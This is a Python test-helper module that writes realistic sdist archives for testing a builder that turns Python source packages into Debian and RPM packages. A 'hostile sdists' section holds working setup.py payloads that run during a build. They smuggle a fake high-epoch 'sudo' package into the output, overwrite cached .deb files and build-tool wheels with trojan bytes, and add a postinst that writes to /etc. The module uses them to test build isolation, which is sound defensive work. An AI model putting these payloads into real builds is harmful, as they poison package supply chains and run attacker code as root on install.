"""Write small, realistic sdists for tests (unit, local test index, integration).

    from sdists import make_sdist         # tests/ is on sys.path in pytest runs
    archive = make_sdist(tmp_path, "tiny-pkg", "1.0", {})            # buildable, setuptools
    archive = make_sdist(tmp_path, "tiny-pkg", "1.0", {}, backend="hatchling")

The default files make a project that a real PEP 517 build succeeds on with only what
Debian 12 ships (setuptools 66, hatchling 1.12): pyproject.toml with [build-system] and a
[project] table, a flat-layout package ``<name_with_underscores>/__init__.py`` carrying
``__version__``, a LICENSE and a static PKG-INFO (Metadata-Version 2.2, no Dynamic) that
agrees with pyproject.toml.  ``files`` (paths relative to the top-level directory) add to
or replace the defaults; ``pkg_info`` replaces the generated PKG-INFO.
"""

from __future__ import annotations

import io
import re
import tarfile
import time
import zipfile
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Literal

__all__ = ["APACHE_SDIST", "SDIST_FORMATS", "apache_license", "default_files",
           "lint_traits_sdist", "make_sdist", "pkg_info_text", "sdist_stem"]

SDIST_FORMATS = ("tar.gz", "zip", "tar.bz2", "tar.xz")
MTIME = 1_700_000_000                 # fixed, for reproducible archives

Backend = Literal["setuptools", "hatchling"]


# A real project's sdist kept in the repository (pypi-attestations 0.0.19, Apache-2.0): its
# LICENSE is the full Apache License 2.0 text, as many projects ship it.
APACHE_SDIST = Path(__file__).parent / "data" / "attestations" / "pypi_attestations-0.0.19.tar.gz"


def apache_license() -> bytes:
    """The LICENSE file of APACHE_SDIST: the complete Apache License, Version 2.0."""
    with tarfile.open(APACHE_SDIST) as tar:
        member = tar.extractfile("pypi_attestations-0.0.19/LICENSE")
        assert member is not None
        return member.read()


def sdist_stem(name: str, version: str) -> str:
    """``{name}-{version}`` as PEP 625 spells sdist file names and their top directory."""
    return f"{re.sub(r'[-_.]+', '_', name).lower()}-{version}"


def module_name(name: str) -> str:
    return re.sub(r"[-_.]+", "_", name).lower()


def pkg_info_text(
    name: str,
    version: str,
    *,
    summary: str = "A tiny test package",
    requires_dist: Sequence[str] = (),
    requires_python: str | None = ">=3.8",
    metadata_version: str = "2.2",
    extra_headers: Sequence[tuple[str, str]] = (),
    description: str = "",
) -> str:
    lines = [
        f"Metadata-Version: {metadata_version}",
        f"Name: {name}",
        f"Version: {version}",
        f"Summary: {summary}",
        "License: MIT",
    ]
    if requires_python:
        lines.append(f"Requires-Python: {requires_python}")
    lines += [f"Requires-Dist: {r}" for r in requires_dist]
    lines += [f"{k}: {v}" for k, v in extra_headers]
    text = "\n".join(lines) + "\n"
    if description:
        text += "\n" + description.rstrip("\n") + "\n"
    return text


def _toml_str(value: str) -> str:
    return '"' + value.replace("\\", "\\\\").replace('"', '\\"') + '"'


def default_files(
    name: str,
    version: str,
    *,
    backend: Backend = "setuptools",
    summary: str = "A tiny test package",
    requires_dist: Sequence[str] = (),
    requires_python: str | None = ">=3.8",
    scripts: Mapping[str, str] | None = None,
) -> dict[str, bytes]:
    """pyproject.toml, the package module and LICENSE (everything but PKG-INFO)."""
    module = module_name(name)
    if backend == "setuptools":
        build_system = ('[build-system]\nrequires = ["setuptools>=61"]\n'
                        'build-backend = "setuptools.build_meta"\n')
        tool = f"\n[tool.setuptools]\npackages = [{_toml_str(module)}]\n"
    else:
        build_system = ('[build-system]\nrequires = ["hatchling"]\n'
                        'build-backend = "hatchling.build"\n')
        tool = f"\n[tool.hatch.build.targets.wheel]\npackages = [{_toml_str(module)}]\n"
    project = [
        "[project]",
        f"name = {_toml_str(name)}",
        f"version = {_toml_str(version)}",
        f"description = {_toml_str(summary)}",
        'license = {text = "MIT"}',
        "dependencies = [" + ", ".join(_toml_str(r) for r in requires_dist) + "]",
    ]
    if requires_python:
        project.append(f"requires-python = {_toml_str(requires_python)}")
    if scripts:
        project.append("\n[project.scripts]")
        project += [f"{_toml_str(k)} = {_toml_str(v)}" for k, v in scripts.items()]
    pyproject = build_system + "\n" + "\n".join(project) + "\n" + tool
    init = (f'"""{name}: a tiny test package."""\n\n__version__ = {_toml_str(version)}\n\n\n'
            "def main() -> None:\n    print(__version__)\n")
    return {
        "pyproject.toml": pyproject.encode(),
        f"{module}/__init__.py": init.encode(),
        "LICENSE": b"MIT License\n\nCopyright (c) 2024 Test Author\n",
    }


def make_sdist(  # noqa: PLR0913 -- keyword-only: one per part of an sdist a test varies
    path: Path,
    name: str,
    version: str,
    files: Mapping[str, bytes],
    *,
    pkg_info: str | None = None,
    fmt: str = "tar.gz",
    backend: Backend = "setuptools",
    summary: str = "A tiny test package",
    requires_dist: Sequence[str] = (),
    requires_python: str | None = ">=3.8",
    scripts: Mapping[str, str] | None = None,
    top: str | None = None,
    mtime: int = MTIME,
) -> Path:
    """Write an sdist and return its path.

    path: a directory (created if needed; the archive gets its PEP 625 name
    ``{name}-{version}.{fmt}``) or, when it ends in an archive suffix, the archive path.
    files: extra or replacing members, relative to the top directory (``top``, default
    ``{name}-{version}``); a value of ``b""`` is an empty file.  Files ending in ``.sh``
    or under ``bin/`` are written executable.  ``mtime`` dates every member (tar; zip
    cannot store a date before 1980).
    """
    if fmt not in SDIST_FORMATS:
        raise ValueError(f"unknown sdist format {fmt!r}")
    path = Path(path)
    stem = sdist_stem(name, version)
    if any(str(path).endswith("." + f) for f in SDIST_FORMATS):
        archive = path
        archive.parent.mkdir(parents=True, exist_ok=True)
    else:
        path.mkdir(parents=True, exist_ok=True)
        archive = path / f"{stem}.{fmt}"
    top = top or stem

    members = default_files(name, version, backend=backend, summary=summary,
                            requires_dist=requires_dist, requires_python=requires_python,
                            scripts=scripts)
    if pkg_info is None:
        pkg_info = pkg_info_text(name, version, summary=summary, requires_dist=requires_dist,
                                 requires_python=requires_python)
    members["PKG-INFO"] = pkg_info.encode()
    members.update(files)

    dirs = sorted({"/".join(rel.split("/")[:i]) for rel in members
                   for i in range(1, rel.count("/") + 1)})
    if fmt == "zip":
        with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zf:
            date_time = time.gmtime(MTIME)[:6]
            for d in ["", *dirs]:
                zinfo = zipfile.ZipInfo(f"{top}/{d}/" if d else f"{top}/", date_time)
                zinfo.external_attr = (0o40755 << 16) | 0x10
                zf.writestr(zinfo, b"")
            for rel, data in sorted(members.items()):
                zinfo = zipfile.ZipInfo(f"{top}/{rel}", date_time)
                zinfo.external_attr = (0o100000 | _mode(rel)) << 16
                zinfo.compress_type = zipfile.ZIP_DEFLATED
                zf.writestr(zinfo, data)
        return archive

    with _open_tar(archive, fmt) as tar:
        for d in ["", *dirs]:
            info = tarfile.TarInfo(f"{top}/{d}" if d else top)
            info.type = tarfile.DIRTYPE
            info.mode = 0o755
            info.mtime = mtime
            tar.addfile(info)
        for rel, data in sorted(members.items()):
            info = tarfile.TarInfo(f"{top}/{rel}")
            info.size = len(data)
            info.mode = _mode(rel)
            info.mtime = mtime
            tar.addfile(info, io.BytesIO(data))
    return archive


def _open_tar(archive: Path, fmt: str) -> tarfile.TarFile:
    if fmt == "tar.gz":
        return tarfile.open(archive, "w:gz", format=tarfile.PAX_FORMAT)
    if fmt == "tar.bz2":
        return tarfile.open(archive, "w:bz2", format=tarfile.PAX_FORMAT)
    return tarfile.open(archive, "w:xz", format=tarfile.PAX_FORMAT)


def _mode(rel: str) -> int:
    return 0o755 if rel.endswith(".sh") or rel.startswith("bin/") else 0o644


# ----------------------------------------------------------------------------- hostile sdists
# A setup.py runs as root inside the builder during the build: these do what a hostile one
# would, with only the builder's own tools.

SMUGGLE_SETUP_PY = '''\
"""Hostile: build a foreign package during the build and leave it beside the real output."""
import os, pathlib, subprocess, tempfile
from setuptools import setup

def smuggle():
    tree = pathlib.Path(__file__).resolve().parent
    work = pathlib.Path(tempfile.mkdtemp())
    if pathlib.Path("/build/rpmbuild/RPMS").is_dir():          # repack's rpm builder
        spec = work / "sudo.spec"
        spec.write_text(
            "Name: sudo\\nVersion: 99.1.0\\nRelease: 1\\nEpoch: 99\\nSummary: sudo\\n"
            "License: MIT\\nBuildArch: noarch\\n%description\\nsudo\\n"
            "%post\\necho owned\\n%files\\n")
        env = {k: v for k, v in os.environ.items() if not k.startswith("RPM")}
        subprocess.run(["rpmbuild", "-bb", "--nodeps", "--define", f"_topdir {work}", str(spec)],
                       check=True, env=env)
        out = pathlib.Path("/build/rpmbuild/RPMS/noarch")
        out.mkdir(parents=True, exist_ok=True)
        for rpm in work.glob("RPMS/*/*.rpm"):
            (out / rpm.name).write_bytes(rpm.read_bytes())
    else:                                                       # dpkg-buildpackage's ..
        debian = work / "pkg" / "DEBIAN"
        debian.mkdir(parents=True)
        (debian / "control").write_text(
            "Package: sudo\\nVersion: 99:1.0\\nArchitecture: all\\nMaintainer: x <x@x>\\n"
            "Description: sudo\\n")
        (debian / "postinst").write_text("#!/bin/sh\\necho owned\\n")
        (debian / "postinst").chmod(0o755)
        subprocess.run(["dpkg-deb", "-b", str(work / "pkg"),
                        str(tree.parent / "sudo_99.1.0_all.deb")], check=True)

smuggle()
'''


def hostile_setup_py_sdist(path: Path, name: str, version: str, nonce: str, script: str,
                           requires: Sequence[str] = ("setuptools",)) -> Path:
    """An sdist configured in setup.py (any setuptools: the rpm builders' is older than the
    61 a [project] table needs) whose setup.py first runs `script`, hostile code that acts
    during the build.  `nonce` makes each sdist unique, so that a build cache never answers
    instead of a build."""
    pyproject = ("[build-system]\nrequires = [" + ", ".join(f'"{r}"' for r in requires)
                 + ']\nbuild-backend = "setuptools.build_meta"\n')
    setup_py = script + (f"setup(name={name!r}, version={version!r}, "
                         f"packages=[{module_name(name)!r}], license='MIT')\n")
    return make_sdist(path, name, version, {"setup.py": setup_py.encode(),
                                            "pyproject.toml": pyproject.encode(),
                                            "NONCE": nonce.encode()})


def smuggling_sdist(path: Path, name: str, version: str, nonce: str) -> Path:
    """An sdist whose setup.py builds a `sudo` package (epoch 99, a postinst/%post) during
    the build and drops it where the real packages are written: beside the .deb for
    dpkg-buildpackage, into RPMS/noarch/ for rpmbuild."""
    return hostile_setup_py_sdist(path, name, version, nonce, SMUGGLE_SETUP_PY)


POISON_SETUP_PY = '''\
"""Hostile: overwrite every .deb apt downloaded for the build, keeping each size."""
import pathlib
from setuptools import setup

poisoned = 0
for deb in pathlib.Path("/var/cache/apt/archives").glob("*.deb"):
    size = deb.stat().st_size
    deb.write_bytes((b"TROJAN" * (size // 6 + 1))[:size])
    poisoned += 1
print(f"POISONED {poisoned} cached packages", flush=True)
setup()
'''


def poisoning_sdist(path: Path, name: str, version: str, nonce: str) -> Path:
    """An sdist (setuptools, and hatchling among its build requirements, so that apt
    brings python3-hatchling into the build) whose setup.py overwrites every .deb in apt's
    archive cache with a same-size trojan during the build."""
    pyproject = ('[build-system]\nrequires = ["setuptools>=61", "hatchling"]\n'
                 'build-backend = "setuptools.build_meta"\n\n[project]\n'
                 f'name = "{name}"\nversion = "{version}"\ndescription = "poisoner"\n'
                 f'requires-python = ">=3.8"\n\n[tool.setuptools]\n'
                 f'packages = ["{module_name(name)}"]\n')
    return make_sdist(path, name, version, {"setup.py": POISON_SETUP_PY.encode(),
                                            "pyproject.toml": pyproject.encode(),
                                            "NONCE": nonce.encode()})


WHEEL_POISON_SETUP_PY = '''\
"""Hostile: overwrite every build-tool wheel it can find, keeping each size."""
import pathlib
from setuptools import setup

written = refused = 0
for root in ("/wheels", "/build"):
    for whl in pathlib.Path(root).rglob("*.whl"):
        try:
            whl.write_bytes((b"TROJAN" * (whl.stat().st_size // 6 + 1))[:whl.stat().st_size])
            written += 1
        except OSError:
            refused += 1
print(f"WHEELS written {written} refused {refused}", flush=True)
'''


def wheel_poisoning_sdist(path: Path, name: str, version: str, nonce: str,
                          tool: str = "flit_core>=3.9") -> Path:
    """An sdist that needs `tool` (a build requirement the builder lacks, so it comes from
    the index as a verified wheel) and whose setup.py overwrites every wheel it can see."""
    return hostile_setup_py_sdist(path, name, version, nonce, WHEEL_POISON_SETUP_PY,
                                  requires=("setuptools", tool))


POSTINST_SETUP_PY = '''\
"""Hostile: add a maintainer script for the package being built (dh_installdeb takes
debian/<package>.postinst from the tree after the debian tar was made)."""
import pathlib
from setuptools import setup

tree = pathlib.Path(__file__).resolve().parent
for control in (tree / "debian").glob("control"):
    package = next(ln.split(":", 1)[1].strip() for ln in control.read_text().splitlines()
                   if ln.startswith("Package:"))
    (tree / "debian" / f"{package}.postinst").write_text(
        "#!/bin/sh\\nset -e\\necho owned > /etc/owned\\n#DEBHELPER#\\n")
    print(f"POSTINST for {package}", flush=True)
'''


def postinst_sdist(path: Path, name: str, version: str, nonce: str) -> Path:
    """An sdist whose setup.py writes debian/<package>.postinst during the build."""
    return hostile_setup_py_sdist(path, name, version, nonce, POSTINST_SETUP_PY)


# ------------------------------------------------------------------- packaging traits linted
# What real sdists do that lintian and rpmlint catch in a naive package (issue 11): rsa's
# Apache LICENSE and a README opening with the summary, jmespath's setup.py `scripts=`,
# members dated 1970, a module with a "#!" line, a locale dir, the same big file twice;
# distlib's Windows launchers (.exe) and truncated ELF test fixture; coverage's NOTICE.txt.

LINT_SETUP_PY = '''\
from setuptools import setup

setup(
    name={name!r},
    version={version!r},
    description={summary!r},
    long_description=open("README.md").read(),
    long_description_content_type="text/markdown",
    license="Apache-2.0",
    license_files=["LICENSE"],    # not NOTICE.txt (setuptools' default would take it)
    packages=[{module!r}, "backports", "backports.{module}"],
    package_data={{{module!r}: ["locale/*/LC_MESSAGES/*.mo", "data/*"]}},
    scripts=["bin/{name}-tool"],
    entry_points={{"console_scripts": ["{name}={module}:main"]}},
    data_files=[("share/man/man1", ["man/{name}.1"])],     # fonttools' ttx.1
)
'''
# A manual page as setup.py's data_files install it (/usr/share/man/man1/NAME.1).
LINT_MAN_PAGE = """\
.TH {upper} 1 "2024-05-06" "{version}" "User Commands"
.SH NAME
{name} \\- run the packaging linters' test module
.SH SYNOPSIS
.B {name}
.SH DESCRIPTION
.B {name}
prints the name of its module.
"""


def mo_catalog() -> bytes:
    """A valid GNU gettext .mo file holding only its header entry."""
    import struct

    key, value = b"", b"Content-Type: text/plain; charset=UTF-8\n"
    header = struct.pack("<7I", 0x950412DE, 0, 1, 28, 36, 0, 44)
    return (header + struct.pack("<2I", len(key), 44) + struct.pack("<2I", len(value), 45)
            + key + b"\0" + value + b"\0")


def truncated_elf() -> bytes:
    """An ELF header whose one program header declares a dynamic segment past the end of
    the file, as distlib's test fixture tests/scripts/uwsgi_part (the first 1000 bytes of a
    uwsgi binary) does: lintian's binary-with-bad-dynamic-table."""
    import struct

    ident = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8)          # ELF64, little-endian
    header = ident + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x401000, 64, 0, 0, 64, 56, 1,
                                 64, 0, 0)                           # EXEC, x86-64, 1 phdr
    dynamic = struct.pack("<IIQQQQQQ", 2, 6, 0x10000, 0x410000, 0x410000, 0x200, 0x200, 8)
    return header + dynamic


def lint_traits_sdist(path: Path, name: str, version: str) -> Path:
    """A setup.py sdist (any setuptools: the el9 builder's too) with every trait above, all
    members dated 1970-01-01, a manual page in data_files and a top directory its file name
    does not spell.  `name` should end in an ISO 639 code ("...-six") for rpmlint's
    language-pack check."""
    module = module_name(name)
    summary = f"Tiny {name} package for the packaging linters"
    big = b"the same data file, shipped twice by upstream\n" * 2600     # > 100 kB each
    files = {
        "setup.py": LINT_SETUP_PY.format(name=name, version=version, summary=summary,
                                         module=module).encode(),
        "pyproject.toml": b'[build-system]\nrequires = ["setuptools"]\n'
                          b'build-backend = "setuptools.build_meta"\n',
        "README.md": f"# {summary}\n\nIt exercises what linters catch.\n".encode(),
        "LICENSE": apache_license(),
        f"bin/{name}-tool": f"#!/usr/bin/python3\nimport {module}\n{module}.main()\n".encode(),
        f"man/{name}.1": LINT_MAN_PAGE.format(name=name, upper=name.upper(),
                                              version=version).encode(),
        f"{module}/cli.py": b"#!/usr/bin/python3\n\"\"\"Run as a module.\"\"\"\nprint('cli')\n",
        f"{module}/locale/de/LC_MESSAGES/{module}.mo": mo_catalog(),
        f"{module}/data/big.txt": big,
        f"{module}/data/big-copy.txt": big,
        # distlib's Windows script launcher, installed as package data (left out), and its
        # truncated ELF test fixture, never installed
        f"{module}/data/t64.exe": b"MZ\x90\x00" + b"\x00" * 60 + b"PE\x00\x00",
        "tests/scripts/uwsgi_part": truncated_elf(),
        # an Apache-2.0 NOTICE that the wheel leaves out (coverage's)
        "NOTICE.txt": b"This product includes software developed at\n"
                      b"The Apache Software Foundation (https://www.apache.org/).\n",
        # a pkgutil-style namespace package (backports.tarfile's): lintian calls a top-level
        # `backports` module overly generic, and every project of the namespace ships it
        "backports/__init__.py": b"__path__ = __import__('pkgutil').extend_path(__path__, "
                                 b"__name__)  # type: ignore\n",
        f"backports/{module}/__init__.py": b'"""A portion of the backports namespace."""\n',
    }
    pkg_info = pkg_info_text(name, version, summary=summary, metadata_version="2.1",
                             description=files["README.md"].decode()
                             ).replace("License: MIT", "License: Apache-2.0")
    # the top directory spelled with the project's dashes, the file name with underscores
    # (PEP 625), as psycopg2_binary-2.9.12.tar.gz holds psycopg2-binary-2.9.12/
    return make_sdist(path, name, version, files, pkg_info=pkg_info, mtime=0,
                      top=f"{name}-{version}")
